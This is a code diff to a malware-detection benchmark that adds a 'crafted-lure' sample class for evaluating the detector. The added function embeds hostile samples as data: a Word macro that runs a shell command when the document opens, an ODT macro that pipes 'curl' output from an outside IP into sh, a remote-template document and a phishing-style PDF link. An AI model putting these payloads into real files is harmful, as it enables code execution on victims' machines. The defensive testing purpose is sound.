@@ -50,7 +50,8 @@ RESULTS = ROOT / "bench" / "results"
 DOC = ROOT / "docs" / "detection.md"
 SEED = 20261205
 
-MALICIOUS_CLASSES = ("script-dropper", "windows-pe", "office-maldoc", "shortcut-lure", "malspam-eml", "phish-body")
+MALICIOUS_CLASSES = ("script-dropper", "windows-pe", "office-maldoc", "shortcut-lure", "malspam-eml", "phish-body",
+                     "crafted-lure")
 BENIGN_CLASSES = ("benign-script", "benign-elf", "benign-pe", "benign-pdf", "benign-html", "ham")
 CLASSES = MALICIOUS_CLASSES + BENIGN_CLASSES
 FLAGGED = ("suspicious", "malicious")
@@ -190,6 +191,40 @@ def _phish_bodies(dest: Path) -> list[Sample]:
     return out
 
 
+def _crafted(dest: Path) -> list[Sample]:
+    """The crafted lures the tests detonate (a .docm whose Document_Open starts a shell, an ODT with a
+    Basic macro, a remote-template .docx, a password form posting elsewhere, HTML smuggling a zip, a
+    one-link PDF lure): built with the test suite's own builders, so they show in the evaluation too."""
+    sys.path.insert(0, str(ROOT / "tests"))
+    try:
+        from office_builder import docx, odt
+        from pdf_builder import Doc
+        from test_guest_browser import PHISH, SMUGGLE
+    except Exception as exc:  # the tests folder is part of the repository; say so if it is not there
+        print(f"bench.detection: crafted lures unavailable: {exc}", file=sys.stderr)
+        return []
+    finally:
+        sys.path.pop(0)
+    shell = 'Private Sub Document_Open()\n    Shell "/bin/sh -c ""id > /tmp/owned; uname -a"""\nEnd Sub\n'
+    pdf = Doc().page(lines=("Your document is ready",),
+                     links=(("http://docs-secure-view.duckdns.org/doc/7781", (72, 500, 540, 700), "VIEW DOCUMENT"),)).build()
+    items = {
+        "invoice.docm": docx("Invoice 4711", vba={"ThisDocument": shell}),
+        "notes.odt": odt("Meeting notes", basic='Shell("/bin/sh", 1, "-c ""curl http://198.51.100.7/x | sh""")'),
+        "report.docx": docx("Report", remote_template="http://198.51.100.9/tpl.dotm"),
+        "login.html": PHISH,
+        "invoice.html": SMUGGLE,
+        "shared-document.pdf": pdf,
+    }
+    out = []
+    for name, data in items.items():
+        p = dest / "crafted" / name
+        p.parent.mkdir(parents=True, exist_ok=True)
+        p.write_bytes(data)
+        out.append(Sample("crafted-lure", name, p, False, "malicious", "crafted, built by the test builders"))
+    return out
+
+
 def _pick(pattern: str | list[str], n: int, rnd: random.Random, ok: Callable[[str], bool] = lambda p: True) -> list[str]:
     paths = sorted(set(pattern if isinstance(pattern, list) else glob.glob(pattern, recursive=True)))
     paths = [p for p in paths if os.path.isfile(p) and not os.path.islink(p) and ok(p)]
@@ -268,7 +303,8 @@ def _ham(dest: Path, rnd: random.Random, n: int) -> list[Sample]:
 def build_corpus(dest: Path, per_class: int) -> list[Sample]:
     rnd = random.Random(SEED)
     malware = _unpack_malware(dest / "malware")
-    samples = malware + _malspam(malware, dest, rnd) + _phish_bodies(dest) + _benign(dest, rnd, per_class)
+    samples = malware + _malspam(malware, dest, rnd) + _phish_bodies(dest) + _crafted(dest)
+    samples += _benign(dest, rnd, per_class)
     samples += _ham(dest, rnd, per_class)
     return samples
 
